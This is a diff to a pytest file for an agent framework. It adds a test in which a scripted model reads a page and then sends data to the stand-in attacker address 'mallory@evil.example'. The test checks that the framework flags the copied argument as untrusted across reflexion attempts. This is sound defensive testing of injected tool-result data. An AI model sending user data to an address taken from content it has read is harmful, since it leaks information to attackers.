@@ -13,7 +13,7 @@ from reactive_agents import ReactiveAgents, tool
 from reactive_agents.core.events import AgentEvent, ApprovalRequested, ReasoningStepCompleted
 from reactive_agents.core.governance import ApprovalRequest
 from reactive_agents.core.json import JsonObject
-from reactive_agents.testing import EventRecorder, RecordingAuditLog, ScriptedLLM, answer, call, forever
+from reactive_agents.testing import EventRecorder, RecordingAuditLog, ScriptedLLM, answer, call, forever, say
 
 pytestmark = pytest.mark.anyio
 
@@ -39,6 +39,29 @@ def build(*, to: str = "mallory@evil.example", **arguments: Any) -> ReactiveAgen
     sent.clear()
     llm = ScriptedLLM(call("read_page"), call("send", to=to, **arguments), forever(answer("Done.")))
     return ReactiveAgents.create().with_llm(llm).with_reasoning().with_tools(read_page, send)
+
+
+async def test_results_that_a_later_attempt_is_shown_are_not_trusted() -> None:
+    sent.clear()
+    bad = say('{"issues": ["It was not sent."], "score": 0.2, "satisfied": false}')
+    good = say('{"issues": [], "score": 1.0, "satisfied": true}')
+    llm = ScriptedLLM(
+        call("read_page"),
+        answer("Read."),
+        bad,
+        call("send", to="mallory@evil.example"),
+        answer("Sent."),
+        good,
+    )
+    recorder = EventRecorder()
+    builder = ReactiveAgents.create().with_llm(llm).with_reasoning("reflexion").with_tools(read_page, send)
+    agent = builder.build()
+    agent.subscribe(recorder)
+    await agent.run("Send the report.")
+    shown = next(each for each in llm.requests if "attempted before" in each.messages[0].content)
+    assert "mallory@evil.example" in shown.messages[1].content
+    (mark,) = [each for event in recorder.of(ReasoningStepCompleted) for each in event.copied]
+    assert mark.startswith("The argument 'to' was copied from ")
 
 
 @pytest.mark.parametrize(
